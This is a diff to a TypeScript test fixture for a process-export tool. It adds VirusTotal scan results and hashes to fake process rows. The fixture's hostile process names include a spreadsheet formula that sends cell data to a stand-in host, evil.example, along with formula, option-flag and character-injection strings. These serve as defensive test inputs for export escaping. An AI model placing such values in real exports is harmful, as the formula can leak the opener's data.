@@ -1,6 +1,7 @@
-import type { ExportProcess, RunExport } from './types';
+import { DEFAULT_MALICIOUS_THRESHOLD, verdictFor } from '../virustotal/verdict';
+import type { ExportProcess, ExportVt, ExportVtChecked, RunExport } from './types';
 
-/** Test data only: a small run with ordinary and hostile process rows. */
+/** Test data only: a small run with ordinary and hostile process rows, some with VirusTotal data. */
 
 export const HOSTILE = {
   formula: '=HYPERLINK("http://evil.example/?q="&A1,"click")',
@@ -12,7 +13,57 @@ export const HOSTILE = {
   control: 'bad\u0000\u0007name\uD800',
 } as const;
 
-function proc(overrides: Partial<ExportProcess> & Pick<ExportProcess, 'pid' | 'name'>): ExportProcess {
+/** Distinct executables of the fixture (`empty` is the empty file, the default of `proc`). */
+export const SHA = {
+  empty: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
+  malicious: 'a'.repeat(64),
+  research: 'b'.repeat(64),
+  notFound: 'c'.repeat(64),
+  pending: 'd'.repeat(64),
+  failed: 'f'.repeat(64),
+} as const;
+
+/** Hashes for a fixture executable: md5/sha1 derived from the sha256's first character. */
+export function hashesOf(sha256: string): Pick<ExportProcess, 'md5' | 'sha1' | 'sha256'> {
+  if (sha256 === SHA.empty) {
+    return {
+      md5: 'd41d8cd98f00b204e9800998ecf8427e',
+      sha1: 'da39a3ee5e6b4b0d3255bfef95601890afd80709',
+      sha256,
+    };
+  }
+  const c = sha256.charAt(0);
+  return { md5: c.repeat(32), sha1: c.repeat(40), sha256 };
+}
+
+/** A VirusTotal answer, its verdict decided the one way (`verdictFor`) with the default threshold. */
+export function checked(
+  vtScore: number | null,
+  totalEngines: number | null = vtScore === null ? null : 72,
+  threatLabel: string | null = null,
+): ExportVtChecked {
+  return {
+    state: 'checked',
+    vtScore,
+    verdict: verdictFor(vtScore, DEFAULT_MALICIOUS_THRESHOLD),
+    totalEngines,
+    threatLabel,
+  };
+}
+
+export const FIXTURE_VT = {
+  clean: checked(0, 72),
+  malicious: checked(7, 72, 'trojan.mirai/gafgyt'),
+  research: checked(1, 70),
+  notFound: checked(null),
+  pending: { state: 'pending', reason: null },
+  failed: { state: 'failed', reason: 'HTTP 503 from VirusTotal' },
+  kernel: { state: 'not-hashed', reason: 'kernel-thread' },
+} as const satisfies Record<string, ExportVt>;
+
+export function proc(
+  overrides: Partial<ExportProcess> & Pick<ExportProcess, 'pid' | 'name'>,
+): ExportProcess {
   return {
     ppid: 1,
     user: 'root',
@@ -23,8 +74,10 @@ function proc(overrides: Partial<ExportProcess> & Pick<ExportProcess, 'pid' | 'n
     exeError: null,
     md5: 'd41d8cd98f00b204e9800998ecf8427e',
     sha1: 'da39a3ee5e6b4b0d3255bfef95601890afd80709',
-    sha256: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
+    sha256: SHA.empty,
     ...overrides,
+    // A copy, so a test that edits one process's answer does not edit the shared constant.
+    ...(overrides.vt ? { vt: { ...overrides.vt } } : {}),
   };
 }
 
@@ -63,14 +116,45 @@ export function makeRunExport(): RunExport {
         memoryPercent: 12.34567,
         cpuPercent: 3.14159,
         exe: '/usr/lib/postgresql/16/bin/postgres',
+        vt: FIXTURE_VT.clean,
       }),
-      proc({ pid: 2001, name: HOSTILE.formula, memoryPercent: 5 }),
-      proc({ pid: 2002, name: HOSTILE.crlf, user: '-evil', memoryPercent: 4 }),
-      proc({ pid: 2003, name: HOSTILE.rtlOverride, exe: `/tmp/${HOSTILE.rtlOverride}` }),
-      proc({ pid: 2004, name: HOSTILE.html, exe: '/tmp/a,"b".sh' }),
-      proc({ pid: 2005, name: HOSTILE.long }),
-      proc({ pid: 2006, name: HOSTILE.ooxmlEscape }),
-      proc({ pid: 2007, name: HOSTILE.control, exeError: '@SUM(1)' }),
+      proc({
+        pid: 2001,
+        name: HOSTILE.formula,
+        memoryPercent: 5,
+        ...hashesOf(SHA.malicious),
+        vt: FIXTURE_VT.malicious,
+      }),
+      proc({
+        pid: 2002,
+        name: HOSTILE.crlf,
+        user: '-evil',
+        memoryPercent: 4,
+        ...hashesOf(SHA.research),
+        vt: FIXTURE_VT.research,
+      }),
+      proc({
+        pid: 2003,
+        name: HOSTILE.rtlOverride,
+        exe: `/tmp/${HOSTILE.rtlOverride}`,
+        ...hashesOf(SHA.notFound),
+        vt: FIXTURE_VT.notFound,
+      }),
+      proc({
+        pid: 2004,
+        name: HOSTILE.html,
+        exe: '/tmp/a,"b".sh',
+        ...hashesOf(SHA.pending),
+        vt: FIXTURE_VT.pending,
+      }),
+      proc({ pid: 2005, name: HOSTILE.long, ...hashesOf(SHA.failed), vt: FIXTURE_VT.failed }),
+      proc({
+        pid: 2006,
+        name: HOSTILE.ooxmlEscape,
+        ...hashesOf(SHA.malicious),
+        vt: FIXTURE_VT.malicious,
+      }),
+      proc({ pid: 2007, name: HOSTILE.control, exeError: '@SUM(1)', vt: FIXTURE_VT.clean }),
       proc({
         pid: 2,
         ppid: 0,
@@ -81,6 +165,7 @@ export function makeRunExport(): RunExport {
         md5: null,
         sha1: null,
         sha256: null,
+        vt: FIXTURE_VT.kernel,
       }),
     ],
   };
